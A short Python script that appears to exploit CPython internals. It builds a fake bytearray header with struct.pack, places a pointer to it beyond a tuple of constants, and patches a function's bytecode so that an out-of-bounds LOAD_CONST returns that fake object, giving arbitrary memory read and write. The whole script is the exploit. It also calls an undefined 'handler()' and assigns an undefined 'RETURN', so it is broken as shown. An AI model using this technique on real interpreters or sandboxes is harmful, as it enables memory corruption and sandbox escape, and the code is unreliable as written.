# An instruction takes a constant far beyond the tuple of constants: a made-up bytearray.
import struct


def header(thing):
    return id(thing) + bytes.__basicsize__ - 1


start = handler()
size = 1 << 20
fake = struct.pack("@nPnnPPn", 1 << 40, id(bytearray), size, size, start, start, 0)
pointer = struct.pack("@P", header(fake))
constants = (1,)
distance = header(pointer) - (id(constants) + tuple.__basicsize__)
if distance % 8 or not 0 <= distance // 8 < 1 << 31:
    while True:  # another place, until it lies behind the constants
        pointer, keep = struct.pack("@P", header(fake)) + bytes(64), pointer
        constants = (1, constants)
        distance = header(pointer) - (id(constants) + tuple.__basicsize__)
        if not distance % 8 and 0 <= distance // 8 < 1 << 31:
            break
index = distance // 8
code = [144, index >> 24, 144, index >> 16 & 255, 144, index >> 8 & 255, 100, index & 255, 83, 0]


def memory():
    return 1


memory.__code__ = memory.__code__.replace(
    co_code=bytes([151, 0, *code]), co_consts=constants, co_stacksize=4
)
memory()[0:2] = RETURN
